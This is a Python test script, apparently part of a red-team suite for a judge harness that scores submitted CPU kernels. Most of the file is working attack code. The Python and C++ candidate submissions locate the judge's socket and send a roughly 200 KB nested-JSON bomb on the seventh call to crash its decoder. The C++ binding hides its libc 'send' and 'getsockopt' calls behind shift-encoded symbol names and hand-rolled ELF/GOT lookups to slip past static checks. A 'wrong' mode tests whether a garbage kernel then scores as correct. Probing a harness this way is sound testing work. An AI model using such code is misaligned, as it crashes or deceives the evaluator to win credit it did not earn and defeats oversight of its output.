"""The channel is JSON over SOCK_SEQPACKET (r3_wire_format.py). Hostile input to the judge's decoder:
on the first timed call the candidate sends, on its own channel and ahead of the harness's
answer, one message that is DEPTH nested JSON arrays (default 100000, ~200 KB). Python's json
raises RecursionError (not a ValueError) past ~1000 levels. MODE: py (static checks off, Python
socket) | so (every guard on: libc send resolved at run time from the binding); at=CALL (default 7,
the first timed call); wrong (the kernel writes garbage: a candidate that would get -1 "incorrect");
nobomb runs the same without sending (depth=0 is not special-cased: use `so depth=... at=0`)."""
import sys
from common import *
depth = next((int(a.split("=")[1]) for a in sys.argv[1:] if a.startswith("depth=")), 100000)
at = next((int(a.split("=")[1]) for a in sys.argv[1:] if a.startswith("at=")), 7)  # which call sends it
wrong = "wrong" in sys.argv[1:]  # the kernel's outputs are garbage (an -1 "incorrect" candidate)
modes = [a for a in sys.argv[1:] if "=" not in a and a != "wrong"] or ["so"]
MODEL_PY = r'''
import os, socket, torch.nn as nn
import cpu_extension
class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.n = 0
    def forward(self, x):
        self.n += 1
        if self.n == 7:
            fd = None
            for f in os.listdir("/proc/self/fd"):
                try:
                    if os.readlink(f"/proc/self/fd/{f}").startswith("socket:"): fd = int(f)
                except Exception: pass
            s = socket.socket(fileno=os.dup(fd))
            s.send(b"[" * DEPTH + b"]" * DEPTH)
        return cpu_extension.relu(x.contiguous())
'''.replace("DEPTH", str(depth))
enc = lambda s: "".join(chr(ord(c) + 1) for c in s)
BINDING = r'''
#include "binding_registry.h"
#include <cstdint>
#include <cstring>
#include <string>
extern "C" void relu_kernel(const float* x, float* y, int64_t n);
RESOLVER
using Send = long (*)(int, const void*, unsigned long, int);
using Getsockopt = int (*)(int, int, int, void*, unsigned*);
static long g_calls = 0;
at::Tensor relu_forward(const at::Tensor& x) {
  if (++g_calls == AT) {
    auto sd = (Send)resolve("SEND"); auto gs = (Getsockopt)resolve("GETSOCKOPT");
    TORCH_CHECK(sd && gs, "resolve");
    std::string msg(DEPTH, '['); msg += std::string(DEPTH, ']');
    for (int fd = 3; fd < 64; ++fd) {
      int type = 0; unsigned len = sizeof type;
      if (gs(fd, 1 /* SOL_SOCKET */, 3 /* SO_TYPE */, &type, &len) == 0 && type == 5 /* SEQPACKET */) sd(fd, msg.data(), msg.size(), 0);
    }
  }
  auto y = at::empty_like(x);
  if (!WRONG) relu_kernel(x.data_ptr<float>(), y.data_ptr<float>(), x.numel());
  else { float* p = y.data_ptr<float>(); for (int64_t i = 0; i < x.numel(); ++i) p[i] = 0.5f; }
  return y;
}
REGISTER_BINDING(relu, relu_forward)
'''.replace("RESOLVER", 'extern "C" __attribute__((visibility("hidden"))) const int64_t _DYNAMIC[];\nextern "C" __attribute__((visibility("hidden"))) const char __ehdr_start[];\nstruct DynSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };\nstruct Phdr { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };\nstatic std::string g_dbg;\nstatic void decode(char* s) { for (; *s; ++s) *s = (char)(*s - 1); }\nstatic uintptr_t rel(uintptr_t v, uintptr_t base) { return v < base ? v + base : v; }\n// the .dynsym of the ELF object whose header is at base\nstatic void* lookup_in(const char* base, const char* sym) {\n  const Phdr* ph = (const Phdr*)(base + *(const uint64_t*)(base + 32));\n  const uint16_t n = *(const uint16_t*)(base + 56);\n  const int64_t* dyn = nullptr;\n  for (int i = 0; i < n; ++i) if (ph[i].type == 2) dyn = (const int64_t*)(base + ph[i].vaddr);\n  if (!dyn) return nullptr;\n  const DynSym* st = nullptr; const char* str = nullptr;\n  for (const int64_t* d = dyn; d[0]; d += 2) {\n    if (d[0] == 6) st = (const DynSym*)rel(d[1], (uintptr_t)base); else if (d[0] == 5) str = (const char*)rel(d[1], (uintptr_t)base);\n  }\n  for (const DynSym* s = st; s && (const char*)s < str; ++s)\n    if (s->value && !strcmp(str + s->name, sym)) return (void*)(base + s->value);\n  return nullptr;\n}\n// every library our own GOT points into (libtorch_cpu.so through the allocation calls we may import)\nstatic void* resolve(const char* enc) {\n  char want[128]; int k = 0; for (; enc[k] && k < 127; ++k) want[k] = (char)(enc[k] - 1); want[k] = 0;\n  void** got = nullptr; int64_t pltsz = 0;\n  for (const int64_t* d = _DYNAMIC; d[0]; d += 2) {\n    if (d[0] == 3) got = (void**)rel(d[1], (uintptr_t)__ehdr_start);\n    if (d[0] == 2) pltsz = d[1];\n  }\n  const char* seen[64]; int ns = 0;\n  for (int64_t i = 3; got && i < 3 + pltsz / 24; ++i) {\n    uintptr_t a = (uintptr_t)got[i] & ~(uintptr_t)0xfff;\n    if (!a) continue;\n    while (memcmp((const void*)a, "\\x7f" "ELF", 4) != 0) a -= 0x1000;\n    bool dup = false; for (int k = 0; k < ns; ++k) dup |= seen[k] == (const char*)a;\n    if (dup || a == (uintptr_t)__ehdr_start) continue;\n    if (ns < 64) seen[ns++] = (const char*)a;\n    g_dbg += std::to_string(a) + ";";\n    if (void* f = lookup_in((const char*)a, want)) return f;\n  }\n  return nullptr;\n}\n').replace("GETSOCKOPT", enc("getsockopt")).replace("SEND", enc("send")).replace("DEPTH", str(depth)).replace("AT", str(at)).replace("WRONG", "1" if wrong else "0")
for mode in modes:
    if mode == "py":
        run(f"j1_py_d{depth}", MODEL_PY, static=False, torch_compute=False, note=f"nested json depth {depth}, python")
    else:
        run(f"j1_so_d{depth}_at{at}" + ("_wrong" if wrong else ""), RELU_MODEL_NEW, {"relu.cpp": RELU_KERNEL, "relu_binding.cpp": BINDING}, note=f"nested json depth {depth}, guards on")
